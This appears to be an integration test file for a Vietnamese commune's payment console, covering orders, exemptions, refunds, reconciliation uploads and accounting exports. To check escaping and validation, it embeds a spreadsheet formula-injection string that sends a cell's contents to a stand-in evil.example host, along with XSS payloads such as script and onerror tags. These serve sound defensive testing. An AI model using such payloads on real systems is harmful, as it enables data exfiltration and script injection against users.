import ExcelJS from 'exceljs';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { createCommuneCache } from '../../src/communes/communes.ts';
import type { Role } from '../../src/communes/officers.ts';
import { createSecretBox } from '../../src/communes/secrets.ts';
import { createMomoPlatform } from '../../src/demo/gateways/momo.ts';
import { silentLog } from '../../src/log.ts';
import { momo } from '../../src/payments/gateways/momo.ts';
import { orderById, ordersOf } from '../../src/payments/orders.ts';
import { openPayments, type Payments } from '../../src/payments/payments.ts';
import type { StaffFees } from '../../src/payments/request.ts';
import { createTestGateway } from '../../src/payments/testing/gateway.ts';
import { browserOf, newOfficer } from '../support/console.ts';
import { createTestDb, type TestDb } from '../support/db.ts';
import { startHouse } from '../support/house.ts';
import { BANK, PUBLIC_URL, URLS } from '../support/pay-house.ts';

// What staff do about money in the console, through its pages and forms.

const at = (local: string) => new Date(`${local}:00+07:00`);
const NOW = at('2026-11-21T09:30');
const CODE = 'H29.33-261121-0007';
const gateway = createTestGateway('vnpay');
const wallet = createMomoPlatform({ now: () => NOW.getTime() });
const MOMO = { accessKey: 'ACCESSKEYTEST', secretKey: 'HOIXATESTSECRET0123456789ABCDEF0' };
let fees: Awaited<ReturnType<StaffFees>> = { kind: 'not_found' };
let database: TestDb;
let payments: Payments;
let house: Awaited<ReturnType<typeof startHouse>>;
let communeId = '';

beforeAll(async () => {
  database = await createTestDb({ communes: ['xa-thu', 'xa-khong'] });
  communeId = database.communes[0]!.id;
  await wallet.start();
  wallet.registerPartner({ ...MOMO, partnerCode: 'MOMOTEST', payee: 'UBND xã Thử' });
  payments = openPayments({
    ...{ database, log: silentLog, kinds: [gateway.kind, momo], now: () => NOW },
    urls: { ...URLS, MOMO_API_URL: wallet.url },
    box: createSecretBox('e'.repeat(64)),
    commune: createCommuneCache(database.orm),
    staffFees: async () => fees,
  });
  house = await startHouse(database, { payments, now: () => NOW });
  await house.openWebhooks();
  const shared = { name: 'chính', payee: 'UBND xã Thử' };
  const contract = { settings: { terminal: 'HOIXA001' }, secrets: { key: 'vnpay-test-secret' } };
  await payments.accounts.connect(communeId, { ...shared, ...contract, method: 'vnpay' });
  await payments.accounts.connect(communeId, { ...shared, method: 'vietqr', settings: BANK });
  const momoContract = { settings: { environment: 'test', partnerCode: 'MOMOTEST' }, secrets: MOMO };
  await payments.accounts.connect(communeId, { ...shared, ...momoContract, method: 'momo' });
});
afterAll(async () => {
  await house.stop();
  await wallet.stop();
  await database.close();
});

const base = '/console/c/xa-thu';
const signedIn = async (role: Role, name?: string) => {
  const officer = await newOfficer(database, communeId, role, name);
  const browser = await browserOf(database, house.url, [officer], NOW);
  const page = async (path: string) => {
    const response = await browser.get(`${base}${path}`);
    return { status: response.status, text: await response.text() };
  };
  const post = async (path: string, fields: Record<string, string>) => {
    const response = await browser.post(`${base}${path}`, fields, { 'hx-request': 'true' });
    return {
      status: response.status,
      to: response.headers.get('hx-redirect')?.slice(base.length) ?? null,
      text: await response.text(),
    };
  };
  const upload = async (path: string, name: string, body: string, fields: Record<string, string> = {}) => {
    const response = await browser.ask(`${base}${path}`, {
      method: 'POST',
      body,
      headers: {
        ...{ accept: 'application/json', 'content-type': 'application/octet-stream', 'x-csrf-token': browser.csrf },
        'x-file-name': encodeURIComponent(name),
        ...Object.fromEntries(Object.entries(fields).map(([key, value]) => [`x-${key}`, encodeURIComponent(value)])),
      },
    });
    return { status: response.status, text: await response.text() };
  };
  return { officer, browser, page, post, upload };
};
let serial = 0;
const order = (change: Record<string, string> = {}) => ({
  idempotencyKey: `khoan-thu-${++serial}`,
  dossier: '',
  purpose: 'Lệ phí chứng thực',
  ...{ kind0: 'le_phi', name0: 'Chứng thực bản sao', quantity0: '4', unit0: '2.000', legal0: 'NQ 12/2025' },
  ...change,
});
const acts = async (id: string) =>
  (
    await database.run<{ act: string }>(
      'acts',
      'select act from audit_log where commune_id = $1 and object_id = $2 order by at, id',
      [communeId, id],
    )
  ).map(({ act }) => act);

/** A conversation on the phone of somebody who just wrote. */
async function talking() {
  const userId = house.zalo.newUserId();
  await house.zalo.personSends(house.oa.oaId, userId, { text: 'xin chào' });
  const bubbles = () => house.zaloBubbles(userId).map(({ text }) => text);
  await expect.poll(() => bubbles().length, { timeout: 20_000 }).toBeGreaterThan(0);
  const [row] = await database.run<{ id: string }>(
    'talking',
    'update conversations set last_user_at = $2::timestamptz where chat_id = $1 returning id',
    [userId, NOW.toISOString()],
  );
  return { conversationId: row!.id, bubbles };
}

test('an obligation is written down, made smaller, paid at the desk, and given back by two people', async () => {
  const clerk = await signedIn('officer');
  const lead = await signedIn('lead', 'Phụ trách Một');
  const second = await signedIn('lead', 'Phụ trách Hai');

  expect((await clerk.page('/payments/new')).text).toContain('Lập khoản thu');
  const given = order({ dossier: CODE.toLowerCase() });
  const made = await clerk.post('/payments/orders', given);
  expect(made).toMatchObject({ status: 204, to: expect.stringMatching(/^\/payments\/orders\/[0-9a-f-]{36}$/) });
  // pressed twice is written once
  expect((await clerk.post('/payments/orders', given)).to).toBe(made.to);
  const path = made.to!;
  const id = path.split('/').at(-1)!;
  const page = await clerk.page(path);
  for (const words of ['8.000 đồng', CODE, '4 × 2.000 đồng', 'NQ 12/2025', 'Chưa nộp'])
    expect(page.text).toContain(words);
  expect(page.text).not.toContain('Miễn, giảm');
  expect((await lead.page(path)).text).toContain('Miễn, giảm');

  const grant = { position: '0', group: 'hộ nghèo', proof: 'sổ hộ nghèo', legalRef: 'NQ 12/2025, Điều 3' };
  expect((await clerk.post(`${path}/exempt`, { ...grant, reduced: '2000' })).status).toBe(403);
  expect(await lead.post(`${path}/exempt`, { ...grant, reduced: '9.000' })).toMatchObject({ status: 409, to: null });
  expect((await lead.post(`${path}/exempt`, { ...grant, reduced: '2.000', proof: '' })).text).toBe(
    'Cần ghi giấy tờ đã xem.',
  );
  expect((await lead.post(`${path}/exempt`, { ...grant, reduced: '2.000' })).to).toBe(path);

  const paid = { method: 'counter', paidAt: '2026-11-21T09:00', evidence: 'BL 000123', idempotencyKey: 'page-1' };
  expect((await clerk.post(`${path}/record`, { ...paid, paidAt: '2026-11-22T09:00' })).text).toContain('tương lai');
  expect((await clerk.post(`${path}/record`, paid)).to).toBe(path);
  // the same page sent twice changes nothing; what another page says is refused
  expect((await clerk.post(`${path}/record`, paid)).to).toBe(path);
  expect((await clerk.post(`${path}/record`, { ...paid, idempotencyKey: 'page-2' })).status).toBe(409);
  expect((await clerk.post(`${path}/receipt`, { url: 'javascript:alert(1)' })).status).toBe(422);
  expect((await clerk.post(`${path}/receipt`, { kind: 'le_phi', number: 'AA/25 0001' })).to).toBe(path);
  const after = (await clerk.page(path)).text;
  for (const words of ['Đã nộp', '6.000 đồng', 'hộ nghèo', 'sổ hộ nghèo', 'BL 000123', 'AA/25 0001', 'Ghi nhận đã nộp'])
    expect(after).toContain(words);

  const movement = /payments\/movements\/([0-9a-f-]{36})\/refund/.exec(after)![1]!;
  const refund = { amount: '6.000', reason: 'thu nhầm', way: 'by_hand' };
  expect((await lead.post(`/payments/movements/${movement}/refund`, { ...refund, amount: '6.001' })).status).toBe(409);
  expect((await lead.post(`/payments/movements/${movement}/refund`, refund)).to).toBe(path);
  expect((await lead.post(`/payments/movements/${movement}/refund`, refund)).status).toBe(409);
  const listed = (await second.page('/payments/refunds')).text;
  expect(listed).toContain('Phụ trách Một đề nghị');
  const decide = /payments\/refunds\/[0-9a-f-]{36}\/decide/.exec(listed)![0];
  const finish = decide.replace('decide', 'finish');
  expect((await lead.page('/payments/refunds')).text).not.toContain('/decide');
  expect((await lead.page('/payments')).text).toContain('Hoàn tiền đang chờ');
  // who asks does not approve, whatever their role, and money that is not approved has not gone
  expect(await lead.post(`/${decide}`, { approved: 'yes' })).toMatchObject({
    status: 409,
    text: 'Người đề nghị hoàn tiền không tự duyệt được: cần người thứ hai.',
  });
  expect((await clerk.post(`/${decide}`, { approved: 'yes' })).status).toBe(403);
  expect((await second.post(`/${finish}`, { evidence: 'CK 1' })).status).toBe(409);
  expect((await second.post(`/${decide}`, { approved: 'yes' })).status).toBe(204);
  expect((await second.post(`/${finish}`, { evidence: 'CK 20261121-9' })).status).toBe(204);
  const end = (await clerk.page(path)).text;
  for (const words of ['Trả lại 6.000 đồng', 'Phụ trách Hai duyệt', 'CK 20261121-9']) expect(end).toContain(words);
  expect(new Set(await acts(id))).toEqual(
    new Set(['obligation_changed', 'payment_read', 'payment_recorded', 'refund_asked']),
  );
});

test('an officer asks for a payment: one message whole, once, or a reason why not', async () => {
  const { post, page } = await signedIn('officer');
  const { conversationId, bubbles } = await talking();
  const path = `/conversations/${conversationId}`;
  expect((await post(`${path}/take`, {})).status).toBe(204);
  await expect.poll(() => bubbles().at(-1), { timeout: 20_000 }).toContain('trả lời, không phải máy');
  const code = 'H29.33-261121-0100';
  const ask = (key: string, dossier = code) => post(`${path}/payment`, { dossier, idempotencyKey: key });

  expect(await ask('khoa-0001', 'abc')).toMatchObject({ status: 422, text: 'Đây không phải mã hồ sơ.' });
  fees = { kind: 'not_found' };
  expect((await ask('khoa-0002')).text).toContain(`Không thấy hồ sơ ${code}`);
  fees = { kind: 'unavailable' };
  expect((await ask('khoa-0003')).text).toContain('chưa trả lời');
  fees = { kind: 'nothing_due' };
  expect((await ask('khoa-0004')).text).toContain('không có khoản nào phải nộp');
  fees = { kind: 'known', procedureCode: null, procedureName: null, unpaid: [] };
  expect((await ask('khoa-0005')).text).toContain('không ghi số tiền');
  expect(await ordersOf(database, communeId, conversationId)).toEqual([]);

  fees = {
    kind: 'known',
    procedureCode: null,
    procedureName: null,
    unpaid: [{ name: 'Lệ phí đăng ký khai sinh', amountVnd: 8_000 }],
  };
  const before = bubbles().length;
  const answers = await Promise.all(Array.from({ length: 5 }, () => ask('khoa-0006')));
  expect(answers.map(({ status }) => status)).toEqual([204, 204, 204, 204, 204]);
  await expect.poll(() => bubbles().length, { timeout: 20_000 }).toBe(before + 1);
  const said = bubbles().at(-1)!;
  for (const words of ['8.000 đồng', code, 'UBND xã Thử', 'hoixa.example.vn', '10 giờ ngày 21/11/2026', 'OTP'])
    expect(said).toContain(words);
  const [row] = await database.run<{ url: string; author: string; links: number }>(
    'asked',
    `select m.author, b ->> 'value' as url, (select count(*)::int from payment_links where expires_at > $2::timestamptz) as links
     from messages m, jsonb_array_elements(m.content -> 'buttons') b
     where m.conversation_id = $1 and b ->> 'kind' = 'url'`,
    [conversationId, NOW.toISOString()],
  );
  expect(row).toMatchObject({ author: 'officer', links: 1 });
  const open = await fetch(row!.url.replace(PUBLIC_URL, house.url));
  expect([open.status, (await open.text()).includes('8.000 đồng')]).toEqual([200, true]);
  const episodes = await database.run<{ first: Date | null }>(
    'episodes',
    'select first_reply_at as first from handoffs where conversation_id = $1',
    [conversationId],
  );
  expect(episodes).toEqual([{ first: NOW }]);
  const [owed] = await ordersOf(database, communeId, conversationId);
  expect(owed).toMatchObject({ dossierNumber: code, amountVnd: 8_000, status: 'open' });

  // beside the conversation, with its state
  const beside = (await page(path)).text;
  expect(beside).toContain(`${base}/payments/orders/${owed!.id}`);
  expect(beside).toContain('Yêu cầu nộp phí');
  expect((await page(`/payments/orders/${owed!.id}`)).text).toContain('Gửi yêu cầu nộp phí cho người dân');

  await post(`/payments/orders/${owed!.id}/record`, {
    method: 'counter',
    paidAt: '2026-11-21T09:10',
    evidence: 'BL 9',
    idempotencyKey: 'page-3',
  });
  await expect.poll(() => bubbles().at(-1), { timeout: 20_000 }).toContain('Đã nhận 8.000 đồng');
  expect((await ask('khoa-0007')).text).toBe(`Hồ sơ ${code} đã nộp 8.000 đồng ngày 21/11/2026.`);

  // who does not hold the conversation asks for nothing
  const other = await signedIn('officer');
  expect((await other.post(`${path}/payment`, { dossier: code, idempotencyKey: 'khoa-0008' })).status).toBe(409);
});

test('a commune without a way to pay says so, and asks nobody', async () => {
  const officer = await newOfficer(database, database.communes[1]!.id, 'officer');
  const { conversationId } = await talking();
  await database.run(
    'moved',
    "update conversations set commune_id = $2, owner = 'officer', officer_id = $3 where id = $1",
    [conversationId, officer.communeId, officer.id],
  );
  const browser = await browserOf(database, house.url, [officer], NOW);
  const response = await browser.post(
    `/console/c/xa-khong/conversations/${conversationId}/payment`,
    { dossier: 'H29.33-261121-0101', idempotencyKey: 'khoa-1001' },
    { 'hx-request': 'true' },
  );
  expect([response.status, await response.text()]).toEqual([
    422,
    'Xã chưa có cách nộp qua mạng nào nhận được khoản 8.000 đồng. Hướng dẫn người dân nộp tại quầy một cửa.',
  ]);
  expect(
    (await database.run('links', 'select 1 from payment_links where commune_id = $1', [officer.communeId])).length,
  ).toBe(0);
});

test('a stray credit names people only to who asks, and is given to the obligation it belongs to', async () => {
  const clerk = await signedIn('officer');
  const lead = await signedIn('lead');
  const made = (await clerk.post('/payments/orders', order({ dossier: 'H29.33-261121-0200' }))).to!;
  const words = 'TRAN THI B nop le phi <img src=x onerror=alert(1)>';
  const statement = [
    'Ngày giao dịch,Số tiền ghi có,Nội dung,Số bút toán',
    `21/11/2026 08:00,"8,000","${words}",FT0001`,
    '21/11/2026 08:10,tám nghìn,khong doc duoc,FT0002',
  ].join('\r\n');
  const sent = { account: 'vietqr chính', day: '2026-11-21' };
  expect((await clerk.upload('/payments/reconciliation', 'sao-ke.csv', statement, sent)).status).toBe(403);
  const done = await lead.upload('/payments/reconciliation', 'sao-ke.csv', statement, sent);
  expect(done.status).toBe(200);
  const run = (await lead.page(JSON.parse(done.text).url.slice(base.length))).text;
  for (const shown of ['Chưa rõ khoản', 'Dòng chưa đọc được', 'sao-ke.csv', '8.000 đồng']) expect(run).toContain(shown);
  expect(run).not.toContain('TRAN THI B');

  const waiting = (await lead.page('/payments')).text;
  expect(waiting).toContain('Tiền chưa khớp');
  expect(waiting).not.toContain('TRAN THI B');
  const movement = /payments\/movements\/([0-9a-f-]{36})\/assign/.exec(waiting)![1]!;
  const shown = await clerk.post(`/payments/movements/${movement}/words`, {});
  expect(shown.text).toContain('TRAN THI B nop le phi &#60;img');
  expect(await acts(movement)).toEqual(['personal_data_shown']);

  const assign = (number: string) => lead.post(`/payments/movements/${movement}/assign`, { number });
  expect((await assign('H29.33-261121-0999')).text).toBe('Không có khoản chưa nộp nào mang mã này.');
  expect((await assign('h29.33-261121-0200')).to).toBe(made);
  expect((await assign('h29.33-261121-0200')).status).toBe(422);
  expect((await lead.page(made)).text).toContain('Gán tiền chưa rõ vào khoản');
});

test('files that are none, and accounts that are not ours, are refused in words for an officer', async () => {
  const lead = await signedIn('lead');
  const send = (name: string, body: string, fields = {}) =>
    lead.upload('/payments/reconciliation', name, body, { account: 'vnpay chính', day: '2026-11-21', ...fields });
  for (const [answer, words] of [
    [await send('a.exe', 'x'), 'Chọn tệp .xlsx hoặc .csv.'],
    [await send('a.csv', ''), 'Tệp trống.'],
    [await send('a.csv', 'một,hai\n1,2\n'), 'Không thấy cột'],
    [await send('a.csv', 'x', { account: 'vnpay khác' }), 'Không đối soát được bằng tệp với cách nộp này. Chọn lại.'],
    [await send('a.csv', 'x', { account: 'momo\u0000' }), 'Chọn tài khoản của tệp.'],
    [await send('a.csv', 'x', { day: '2026-11-22' }), 'Chọn ngày của tệp, không ở tương lai.'],
  ] as const) {
    expect([answer.status, answer.text.slice(0, words.length)]).toEqual([422, words]);
  }
  const dossiers = async (asOf: string) => {
    const fields: Record<string, string> = asOf === '' ? {} : { 'as-of': asOf };
    const { status, text } = await lead.upload('/dossiers/import', 'a.csv', 'một,hai\n1,2\n', fields);
    return [status, text.slice(0, 14)];
  };
  expect(await dossiers('2026-11-20T17:00')).toEqual([422, 'Không thấy cột']);
  for (const asOf of ['', 'hôm qua', '2026-13-40T00:00', '2026-11-20'])
    expect(await dossiers(asOf)).toEqual([422, 'Chọn ngày giờ ']);
  expect(await dossiers('2026-11-22T17:00')).toEqual([422, 'Dữ liệu không ']);
});

test('a list of dossiers read in at the console tells citizens the time it was drawn at', async () => {
  const lead = await signedIn('lead');
  const list = 'Mã hồ sơ,Trạng thái,Ngày tiếp nhận\nH29.33-261120-0007,Đang xử lý,20/11/2026\n';
  const done = await lead.upload('/dossiers/import', 'một cửa.csv', list, { 'as-of': '2026-11-20T17:30' });
  expect(done.status).toBe(200);
  const report = (await lead.page(JSON.parse(done.text).url.replace(base, ''))).text;
  expect(report).toContain('dữ liệu lúc 17:30 ngày 20/11/2026');
  expect((await lead.page('/dossiers')).text).toContain('dữ liệu lúc 17:30 ngày 20/11/2026');
});

test('books for the accountant: formulas are words, in both kinds of file', async () => {
  const clerk = await signedIn('officer');
  const lead = await signedIn('lead');
  const formula = '=HYPERLINK("https://evil.example?"&A1,"bấm")';
  const made = (await clerk.post('/payments/orders', order({ purpose: formula }))).to!;
  const recorded = { method: 'counter', paidAt: '2026-11-21T09:20', evidence: '=1+1', idempotencyKey: 'page-1' };
  expect((await clerk.post(`${made}/record`, recorded)).to).toBe(made);
  const period = 'from=2026-11-21&to=2026-11-21';
  expect((await clerk.page(`/payments/export.csv?${period}`)).status).toBe(403);
  expect((await lead.page('/payments/export.csv?from=2026-11-22&to=2026-11-21')).status).toBe(422);
  const csv = (await lead.page(`/payments/export.csv?${period}`)).text;
  expect(csv).toContain(`"'=HYPERLINK(""https://evil.example?""&A1,""bấm"")"`);
  for (const cell of csv.split(/\r\n|,(?=")/)) expect(cell).not.toMatch(/^"?[=+@]/);
  const file = await lead.browser.get(`${base}/payments/export.xlsx?${period}`);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load((await file.arrayBuffer()) as never);
  const cells: unknown[] = [];
  book.worksheets[0]!.eachRow((row) => row.eachCell(({ value }) => void cells.push(value)));
  expect(cells).toContain(`'${formula}`);
  expect(cells.filter((cell) => typeof cell === 'object' && cell !== null)).toEqual([]);
  const [audited] = await database.run(
    'exported',
    "select 1 from payment_audit where act = 'exported' and officer_id = $1",
    [lead.officer.id],
  );
  expect(audited).toBeDefined();
});

test('what people write is words on every page about money', async () => {
  const clerk = await signedIn('officer');
  const lead = await signedIn('lead');
  const evil = `"><script>alert(1)</script><img src=x onerror='alert(2)'>`;
  const made = (await clerk.post('/payments/orders', order({ purpose: evil, name0: evil, legal0: evil, dossier: '' })))
    .to!;
  const grant = { position: '0', reduced: '1000', group: evil, proof: evil, legalRef: evil };
  await lead.post(`${made}/exempt`, grant);
  await clerk.post(`${made}/record`, {
    method: 'portal',
    paidAt: '2026-11-21T09:20',
    evidence: evil,
    idempotencyKey: 'page-4',
  });
  await clerk.post(`${made}/receipt`, { number: evil.slice(0, 60) });
  const movement = /payments\/movements\/([0-9a-f-]{36})\/refund/.exec((await clerk.page(made)).text)![1]!;
  await clerk.post(`/payments/movements/${movement}/refund`, { amount: '1000', reason: evil, way: 'by_hand' });
  const search = `/payments/orders?q=${encodeURIComponent(evil)}`;
  for (const path of [made, '/payments', '/payments/orders', search, '/payments/refunds']) {
    const { status, text } = await lead.page(path);
    expect([path, status]).toEqual([path, 200]);
    expect(text).not.toMatch(/<script>|<img|onerror='/);
    if (path !== '/payments') expect(text).toContain('&#60;script&#62;');
  }
});

test('a gateway’s own report tells of money nobody told us of: it is taken in, once, and every line has its class', async () => {
  const lead = await signedIn('lead');
  const { text } = await lead.page('/payments/contracts');
  for (const words of ['Ví MoMo', 'MOMOTEST', 'UBND xã Thử', 'Đang mở']) expect(text).toContain(words);
  for (const secret of Object.values(MOMO)) expect(text).not.toContain(secret);

  const orders = await Promise.all(
    [1, 2].map(async (at) => (await lead.post('/payments/orders', order({ dossier: `H29.33-261121-030${at}` }))).to!),
  );
  const refs = await Promise.all(
    orders.map(async (path) => {
      const owed = await orderById(database, communeId, path.split('/').at(-1)!);
      return (await payments.attempts.beginAtGateway(owed!, 'momo', '203.0.113.9')).ref;
    }),
  );
  wallet.ipn.always('lose');
  await wallet.till.act(refs[0]!, 'pay');
  await wallet.till.act(refs[1]!, 'cancel');
  const report = await (await fetch(`${wallet.url}/report.csv`)).text();
  const upload = async () => {
    const sent = { account: 'momo chính', day: '2026-11-21' };
    const answer = await lead.upload('/payments/reconciliation', 'giao dịch.csv', report, sent);
    expect([answer.status, answer.text]).toEqual([200, expect.stringContaining('/payments/reconciliation/')]);
    return (await lead.page(JSON.parse(answer.text).url.slice(base.length))).text;
  };
  const first = await upload();
  for (const words of ['Ta thiếu, đã ghi (1)', 'Tất cả (1)', refs[0]!, 'giao dịch.csv']) expect(first).toContain(words);
  expect(first).not.toContain(refs[1]!);
  expect((await lead.page(orders[0]!)).text).toContain('Đã nhận tiền');
  expect((await lead.page(orders[1]!)).text).toContain('Chưa nộp');
  expect(await upload()).toContain('Khớp (1)');
  const found = (await lead.page(`/payments/orders?q=${refs[0]!.toLowerCase()}`)).text;
  expect([...found.matchAll(/payments\/orders\/[0-9a-f-]{36}/g)].map(([path]) => `/${path}`)).toEqual([orders[0]]);
});
